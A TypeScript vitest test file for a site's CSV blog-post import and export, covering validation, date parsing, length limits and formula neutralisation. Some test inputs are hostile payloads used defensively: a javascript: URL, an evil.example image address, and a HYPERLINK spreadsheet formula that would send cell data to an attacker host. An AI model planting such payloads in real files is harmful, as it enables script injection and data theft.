import { describe, expect, it } from "vitest";
import { siteSettingsSeed } from "#app/content/site.ts";
import { IMPORT, SCRAPER } from "./constants.ts";
import { parseCsv } from "./csv.ts";
import {
  checkImportColumns,
  defaultImportAction,
  IMPORT_COLUMNS,
  IMPORT_MESSAGES,
  IMPORT_TEMPLATE_SAMPLE,
  importCompleteMessage,
  importRequestSchema,
  importRowStatus,
  importTemplateCsv,
  parseImportDate,
  parseUrlList,
  readingTimeForHtml,
  scrapedPostsToCsv,
  scrapeRequestSchema,
  splitList,
  summarizeImport,
  validateImportRow,
  importRowValidator,
  type ScrapedPost,
} from "./post-import-columns.ts";
import { POST_LIMITS } from "./post-schemas.ts";

const now = new Date("2025-06-01T12:00:00Z");
const options = { now, agentName: siteSettingsSeed.agent.name };
const validate = (cells: Record<string, string>) => validateImportRow({ title: "A Post", slug: "a-post", ...cells }, 1, options);

describe("IMPORT_COLUMNS", () => {
  it("are the 13 CSV columns of spec §3, in order", () => {
    expect(IMPORT_COLUMNS).toEqual([
      "title",
      "slug",
      "excerpt",
      "hero_image_url",
      "categories",
      "tags",
      "author_name",
      "published_at",
      "seo_title",
      "seo_description",
      "canonical_url",
      "featured",
      "content_html",
    ]);
  });
});

describe("validateImportRow (spec §5 CSV import)", () => {
  it("gives a complete row's normalised fields, no errors and no warnings", () => {
    const row = validateImportRow(
      {
        title: " Boating on Lake Norman ",
        slug: "boating-on-lake-norman",
        excerpt: " Where to launch. ",
        hero_image_url: "https://example.com/boat.jpg",
        categories: "Boating & Water Sports, Local Events",
        tags: "boats, lake",
        author_name: "Guest Writer",
        published_at: "2025-03-14T09:00:00Z",
        seo_title: "Boating",
        seo_description: "Launch ramps",
        canonical_url: "https://example.com/boating",
        featured: "true",
        content_html: "<p>Hello</p>",
      },
      7,
      options,
    );
    expect(row).toEqual({
      rowNumber: 7,
      errors: [],
      warnings: [],
      data: {
        title: "Boating on Lake Norman",
        slug: "boating-on-lake-norman",
        excerpt: "Where to launch.",
        heroImageUrl: "https://example.com/boat.jpg",
        categories: ["Boating & Water Sports", "Local Events"],
        tags: ["boats", "lake"],
        authorName: "Guest Writer",
        publishedAt: new Date("2025-03-14T09:00:00Z"),
        publishedAtDefaulted: false,
        seoTitle: "Boating",
        seoDescription: "Launch ramps",
        canonicalUrl: "https://example.com/boating",
        featured: true,
        content: "<p>Hello</p>",
      },
    });
    expect(importRowStatus(row)).toBe("valid");
  });

  it('requires a title: "Title is required"', () => {
    for (const title of ["", "   "]) {
      const row = validate({ title });
      expect(row.errors).toEqual([IMPORT_MESSAGES.titleRequired]);
      expect(importRowStatus(row)).toBe("errors");
    }
    expect(IMPORT_MESSAGES.titleRequired).toBe("Title is required");
  });

  it('requires a slug: "Slug is required", also when nothing of it survives slugify', () => {
    for (const slug of ["", "  ", "!!!"]) expect(validate({ slug }).errors).toEqual([IMPORT_MESSAGES.slugRequired]);
    expect(IMPORT_MESSAGES.slugRequired).toBe("Slug is required");
    expect(validateImportRow({}, 3, options).errors).toEqual(["Title is required", "Slug is required"]);
  });

  it("keeps a slug-shaped cell as written and normalises anything else with a warning", () => {
    expect(validate({ slug: "top-7_towns-2025" })).toMatchObject({ data: { slug: "top-7_towns-2025" }, warnings: [] });
    const row = validate({ slug: "My Lake Post!" });
    expect(row.data.slug).toBe("my-lake-post");
    expect(row.warnings).toEqual(['Slug "My Lake Post!" will be imported as "my-lake-post"']);
    expect(importRowStatus(row)).toBe("warnings");
  });

  it('warns "Invalid date format, will use current date" and uses now for an unreadable date', () => {
    const row = validate({ published_at: "next Tuesday" });
    expect(row.warnings).toEqual(["Invalid date format, will use current date"]);
    expect(IMPORT_MESSAGES.invalidDate).toBe("Invalid date format, will use current date");
    expect(row.data.publishedAt).toEqual(now);
    expect(row.data.publishedAtDefaulted).toBe(true);
    expect(validate({ published_at: "2025-02-30" }).warnings).toEqual([IMPORT_MESSAGES.invalidDate]);
  });

  it("uses now, without a warning, when published_at is empty", () => {
    const row = validate({ published_at: " " });
    expect(row.warnings).toEqual([]);
    expect(row.data.publishedAt).toEqual(now);
    expect(row.data.publishedAtDefaulted).toBe(true);
  });

  it("makes a post featured only when the cell is exactly true", () => {
    expect(validate({ featured: "true" }).data.featured).toBe(true);
    for (const featured of ["", "false", "TRUE", "True", " true", "yes", "1"]) {
      expect(validate({ featured }).data.featured).toBe(false);
    }
    expect(validate({ featured: "false" }).warnings).toEqual([]);
    expect(validate({ featured: "TRUE" }).warnings).toEqual(['Featured is "TRUE": only the text true marks a post as featured']);
  });

  it("splits categories and tags on commas, trimmed, without blanks or repeats", () => {
    const row = validate({ categories: " Market Insights ,, Home Staging,Market Insights, ", tags: "a,b , a" });
    expect(row.data.categories).toEqual(["Market Insights", "Home Staging"]);
    expect(row.data.tags).toEqual(["a", "b"]);
    expect(validate({}).data.categories).toEqual([]);
  });

  it("defaults the author to the agent's name", () => {
    expect(validate({ author_name: "" }).data.authorName).toBe("Meredith Vance");
    expect(validate({ author_name: "  " }).data.authorName).toBe(siteSettingsSeed.agent.name);
  });

  it("leaves out image and canonical addresses that are not http(s), with a warning", () => {
    const row = validate({ hero_image_url: "javascript:alert(1)", canonical_url: "/the-lake-advisor/x" });
    expect(row.data.heroImageUrl).toBeNull();
    expect(row.data.canonicalUrl).toBeNull();
    expect(row.warnings).toEqual([
      "Hero image URL is not an http(s) address and will be left out",
      "Canonical URL is not an http(s) address and will be left out",
    ]);
    expect(validate({ hero_image_url: "/media/boat.webp" }).data.heroImageUrl).toBe("/media/boat.webp");
    expect(validate({ hero_image_url: "//evil.example/x.jpg" }).data.heroImageUrl).toBeNull();
  });

  it("turns empty optional cells into null and takes the content from content_html", () => {
    const row = validate({ seo_title: " ", content_html: "  <p>Body</p>\n" });
    expect(row.data).toMatchObject({ seoTitle: null, seoDescription: null, heroImageUrl: null, canonicalUrl: null, content: "<p>Body</p>" });
  });
});

describe("parseImportDate", () => {
  const iso = (value: string) => parseImportDate(value)?.toISOString() ?? null;

  it("reads ISO date-times with an offset exactly", () => {
    expect(iso("2025-03-14T09:30:00Z")).toBe("2025-03-14T09:30:00.000Z");
    expect(iso("2025-03-14T09:30:00.250-04:00")).toBe("2025-03-14T13:30:00.250Z");
    expect(iso("2025-03-14 09:30+0530")).toBe("2025-03-14T04:00:00.000Z");
  });

  it("reads dates and times without an offset on the agent's clock (America/New_York)", () => {
    expect(iso("2025-01-15")).toBe("2025-01-15T05:00:00.000Z");
    expect(iso("2025-07-04")).toBe("2025-07-04T04:00:00.000Z");
    expect(iso("2025-07-04T18:45")).toBe("2025-07-04T22:45:00.000Z");
  });

  it("reads US dates, month names and RFC 2822", () => {
    expect(iso("3/14/2025")).toBe("2025-03-14T04:00:00.000Z");
    expect(iso("03/14/2025 9:05 PM")).toBe("2025-03-15T01:05:00.000Z");
    expect(iso("12/1/2025 12:00 am")).toBe("2025-12-01T05:00:00.000Z");
    expect(iso("March 14, 2025")).toBe("2025-03-14T04:00:00.000Z");
    expect(iso("Friday, Mar 14th 2025")).toBe("2025-03-14T04:00:00.000Z");
    expect(iso("14 Sept 2025")).toBe("2025-09-14T04:00:00.000Z");
    expect(iso("Fri, 14 Mar 2025 10:00:00 GMT")).toBe("2025-03-14T10:00:00.000Z");
  });

  it("refuses text and impossible dates", () => {
    for (const value of [
      "",
      "soon",
      "2025-13-01",
      "2025-02-29",
      "2024-02-30",
      "13/14/2025",
      "2025-03-14T25:00",
      "Marchy 3, 2025",
      "3/14/2025 13:00 PM",
      "1/2/25",
    ]) {
      expect(iso(value)).toBeNull();
    }
    expect(iso("2024-02-29")).not.toBeNull();
  });
});

describe("defaultImportAction (spec §4)", () => {
  it("updates when a post with the slug exists, otherwise creates", () => {
    expect(defaultImportAction(true)).toBe("update");
    expect(defaultImportAction(false)).toBe("create");
  });
});

describe("checkImportColumns", () => {
  it("names the missing required columns and the ignored ones", () => {
    expect(checkImportColumns(["title", "body", "slug"])).toEqual({ missing: [], unknown: ["body"] });
    expect(checkImportColumns(["excerpt"])).toEqual({ missing: ["title", "slug"], unknown: [] });
  });
});

describe("splitList", () => {
  it("keeps order and drops repeats ignoring case, as the editor does", () => {
    expect(splitList("b, a, b, A")).toEqual(["b", "a"]);
    expect(splitList(" , ")).toEqual([]);
  });
});

describe("readingTimeForHtml (spec §5 reading time)", () => {
  it("counts the words of the text, not the markup", () => {
    const words = (n: number) => Array.from({ length: n }, (_, i) => `w${i}`).join(" ");
    expect(readingTimeForHtml(`<p class="a b c d e f">${words(200)}</p>`)).toBe(1);
    expect(readingTimeForHtml(`<p>${words(200)}</p><p>one</p>`)).toBe(2);
    const attributesOnly = `<img ${Array.from({ length: 400 }, (_, i) => `data-x${i}="y"`).join(" ")}>`;
    expect(readingTimeForHtml(attributesOnly + words(10))).toBe(1);
    expect(readingTimeForHtml(`<script>${words(500)}</script>${words(150)}`)).toBe(1);
    expect(readingTimeForHtml(`<p>${words(401)}</p>`)).toBe(3);
  });

  it("is at least one minute", () => {
    expect(readingTimeForHtml("")).toBe(1);
  });
});

describe("import results", () => {
  it("counts outcomes and writes the Import Complete text", () => {
    const summary = summarizeImport((["created", "created", "updated", "unchanged", "skipped"] as const).map((outcome) => ({ outcome })));
    expect(summary).toEqual({ created: 2, updated: 1, unchanged: 1, skipped: 1, failed: 0 });
    expect(importCompleteMessage(summary)).toBe("Created: 2, Updated: 2, Skipped: 1");
    expect(importCompleteMessage({ ...summary, failed: 3 })).toBe("Created: 2, Updated: 2, Skipped: 1, Failed: 3");
  });
});

describe("request schemas", () => {
  it("accepts rows with optional actions and refuses more than IMPORT.maxRows", () => {
    const row = { rowNumber: 1, cells: { title: "A" } };
    expect(importRequestSchema.safeParse({ rows: [row, { ...row, action: "skip" }] }).success).toBe(true);
    expect(importRequestSchema.safeParse({ rows: [{ ...row, action: "delete" }] }).success).toBe(false);
    expect(importRequestSchema.safeParse({ rows: [] }).success).toBe(false);
    expect(importRequestSchema.safeParse({ rows: Array.from({ length: IMPORT.maxRows + 1 }, () => row) }).success).toBe(false);
  });

  it("reads one URL per line and allows at most SCRAPER.maxUrls", () => {
    expect(parseUrlList(" https://a.example/x \r\n\r\nhttps://b.example/y\nhttps://a.example/x\n")).toEqual(["https://a.example/x", "https://b.example/y"]);
    const urls = (n: number) => Array.from({ length: n }, (_, i) => `https://a.example/${i}`);
    expect(scrapeRequestSchema.safeParse({ urls: urls(SCRAPER.maxUrls) }).success).toBe(true);
    expect(scrapeRequestSchema.safeParse({ urls: urls(SCRAPER.maxUrls + 1) }).success).toBe(false);
    expect(scrapeRequestSchema.safeParse({ urls: [] }).success).toBe(false);
  });
});

describe("CSV files", () => {
  it("the template has the 13 columns and one valid sample row", () => {
    const { columns, rows } = parseCsv(importTemplateCsv());
    expect(columns).toEqual([...IMPORT_COLUMNS]);
    expect(rows).toHaveLength(1);
    const row = validateImportRow(rows[0] ?? {}, 1, options);
    expect(row.errors).toEqual([]);
    expect(row.warnings).toEqual([]);
    expect(row.data.categories).toEqual(IMPORT_TEMPLATE_SAMPLE.categories);
    expect(row.data.publishedAt.toISOString()).toBe("2025-03-14T13:00:00.000Z");
  });

  it("scraped-posts.csv is accepted by the import unchanged", () => {
    const post: ScrapedPost = {
      ...IMPORT_TEMPLATE_SAMPLE,
      title: 'Docks, Lifts and "Wake" Zones',
      slug: "docks-lifts-wake-zones",
      categories: ["Boating & Water Sports"],
      tags: ["docks", "lifts"],
      featured: true,
      author_name: "",
      content_html: "<p>Line one,\nline two</p>\r\n\r\n<p>Three</p>",
    };
    const { rows } = parseCsv(scrapedPostsToCsv([post, IMPORT_TEMPLATE_SAMPLE]));
    expect(rows).toHaveLength(2);
    const row = validateImportRow(rows[0] ?? {}, 1, options);
    expect(row.errors).toEqual([]);
    expect(row.data).toMatchObject({
      title: post.title,
      slug: post.slug,
      categories: post.categories,
      tags: post.tags,
      featured: true,
      authorName: siteSettingsSeed.agent.name,
      content: post.content_html,
    });
    expect(rows[1]?.featured).toBe("false");
  });
});

describe("the editor's rules in the import (issue 13)", () => {
  const long = (n: number) => "a".repeat(n);
  const chips = (n: number) => Array.from({ length: n }, (_, i) => `Chip ${i}`).join(", ");

  it("refuses every value the editor would refuse for its length, naming the field", () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ title: long(POST_LIMITS.title + 1) }, `Title must be at most ${POST_LIMITS.title} characters`],
      [{ slug: long(POST_LIMITS.slug + 1) }, `Slug must be at most ${POST_LIMITS.slug} characters`],
      [{ excerpt: long(POST_LIMITS.excerpt + 1) }, `Excerpt must be at most ${POST_LIMITS.excerpt} characters`],
      [{ author_name: long(POST_LIMITS.authorName + 1) }, `Author name must be at most ${POST_LIMITS.authorName} characters`],
      [{ seo_title: long(POST_LIMITS.seoTitle + 1) }, `SEO title must be at most ${POST_LIMITS.seoTitle} characters`],
      [{ seo_description: long(POST_LIMITS.seoDescription + 1) }, `SEO description must be at most ${POST_LIMITS.seoDescription} characters`],
      [{ categories: chips(POST_LIMITS.chips + 1) }, `At most ${POST_LIMITS.chips} categories`],
      [{ tags: chips(POST_LIMITS.chips + 1) }, `At most ${POST_LIMITS.chips} tags`],
      [{ categories: long(POST_LIMITS.chip + 1) }, `Each category must be at most ${POST_LIMITS.chip} characters`],
      [{ tags: `ok, ${long(POST_LIMITS.chip + 1)}` }, `Each tag must be at most ${POST_LIMITS.chip} characters`],
      [{ content_html: `<p>${long(POST_LIMITS.content)}</p>` }, `Content must be at most ${POST_LIMITS.content} characters`],
    ];
    for (const [cells, message] of cases) {
      const row = validate(cells);
      expect(row.errors, message).toEqual([message]);
      expect(importRowStatus(row)).toBe("errors");
    }
  });

  it("accepts every field at its limit", () => {
    const row = validate({
      title: long(POST_LIMITS.title),
      slug: long(POST_LIMITS.slug),
      excerpt: long(POST_LIMITS.excerpt),
      author_name: long(POST_LIMITS.authorName),
      seo_title: long(POST_LIMITS.seoTitle),
      seo_description: long(POST_LIMITS.seoDescription),
      categories: chips(POST_LIMITS.chips),
      tags: `${long(POST_LIMITS.chip)}, ${chips(POST_LIMITS.chips - 1)}`,
      content_html: long(POST_LIMITS.content),
    });
    expect(row.errors).toEqual([]);
  });

  it("refuses control characters in one-line fields and NUL in the content, naming the field", () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ title: "Dock\u0001Permits" }, "Title: Remove the invisible control characters"],
      [{ title: "Two\nlines" }, "Title: Remove the invisible control characters"],
      [{ title: "Dock\u200BPermits" }, "Title: Remove the invisible control characters"],
      [{ author_name: "Meredith\u0001Vance" }, "Author name: Remove the invisible control characters"],
      [{ seo_title: "Seo\u202Etitle" }, "SEO title: Remove the invisible control characters"],
      [{ categories: "Boating\u0007" }, "Categories: Remove the invisible control characters"],
      [{ tags: "ok, bad\u0000tag" }, "Tags: Remove the invisible control characters"],
      [{ excerpt: "Nul\u0000byte" }, "Excerpt: Remove the invisible control characters"],
      [{ content_html: "<p>Nul\u0000byte</p>" }, "Content: Remove the invisible control characters"],
    ];
    for (const [cells, message] of cases) expect(validate(cells).errors, message).toEqual([message]);
    // Multi-line fields keep their line breaks and tabs.
    expect(validate({ excerpt: "One\nTwo", seo_description: "One\r\nTwo", content_html: "<p>a</p>\n\t<p>b</p>" }).errors).toEqual([]);
  });

  it("leaves out addresses the editor would refuse, with the warning", () => {
    for (const url of ["https://example.com/a b.jpg", `https://example.com/${long(POST_LIMITS.url)}`, "\u0001https://example.com/x.jpg"]) {
      const row = validate({ hero_image_url: url, canonical_url: url });
      expect(row.errors, url).toEqual([]);
      expect(row.data.heroImageUrl, url).toBeNull();
      expect(row.data.canonicalUrl, url).toBeNull();
      expect(row.warnings).toHaveLength(2);
    }
  });
});

/** A file's rows through one validator, as the import service runs them. */
const validateAll = (inputs: Parameters<ReturnType<typeof importRowValidator>>[0][], settings: Parameters<typeof importRowValidator>[0]) =>
  inputs.map(importRowValidator(settings));

describe("importRowValidator: what only the whole file shows", () => {
  const rows = (...list: Array<Record<string, string>>) =>
    list.map((cells, index) => ({ rowNumber: index + 1, cells: { title: `Post ${index + 1}`, ...cells } }));

  it("flags every later row whose slug an earlier valid row has, also when the cells differ but slugify alike", () => {
    const result = validateAll(rows({ slug: "twin" }, { slug: "other" }, { slug: "Twin" }, { slug: "twin" }), options);
    expect(result.map((row) => row.errors)).toEqual([
      [],
      [],
      ['Row 1 of this file has the same slug "twin"; only that row can be imported'],
      ['Row 1 of this file has the same slug "twin"; only that row can be imported'],
    ]);
  });

  it("lets a row take a slug whose earlier row has errors and will not be imported", () => {
    const result = validateAll(rows({ slug: "twin", title: "" }, { slug: "twin" }), options);
    expect(result.map((row) => row.errors)).toEqual([[IMPORT_MESSAGES.titleRequired], []]);
  });

  it("warns about cells beyond the header's columns", () => {
    const [one, two, none] = validateAll(
      [
        { rowNumber: 1, cells: { title: "A", slug: "a" }, extraCells: 1 },
        { rowNumber: 2, cells: { title: "B", slug: "b" }, extraCells: 3 },
        { rowNumber: 3, cells: { title: "C", slug: "c" }, extraCells: 0 },
      ],
      options,
    );
    expect(one?.warnings).toEqual(["1 cell beyond the header's columns will be ignored"]);
    expect(two?.warnings).toEqual(["3 cells beyond the header's columns will be ignored"]);
    expect(none?.warnings).toEqual([]);
  });
});

describe("CSV files the site writes (issue 13: formulas)", () => {
  it("scraped-posts.csv neutralises formula cells and the import reads the original text back", () => {
    const post: ScrapedPost = {
      ...IMPORT_TEMPLATE_SAMPLE,
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      slug: "hostile",
      excerpt: "+1 for lake life",
      author_name: "@meredith",
      categories: ["-Boating"],
      tags: ["'quoted"],
      seo_title: "'Tis the season",
    };
    const csv = scrapedPostsToCsv([post]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    // A neutralised cell is also quoted (Papa.unparse's escapeFormulae).
    expect(csv).toContain(`,"'+1 for lake life",`);
    expect(csv).toContain(`,"'@meredith",`);
    expect(csv).toContain(`,"'-Boating",`);
    const row = validateImportRow(parseCsv(csv).rows[0] ?? {}, 1, options);
    expect(row.errors).toEqual([]);
    expect(row.data).toMatchObject({
      title: post.title,
      excerpt: post.excerpt,
      authorName: post.author_name,
      categories: post.categories,
      tags: post.tags,
      seoTitle: post.seo_title,
    });
  });
});
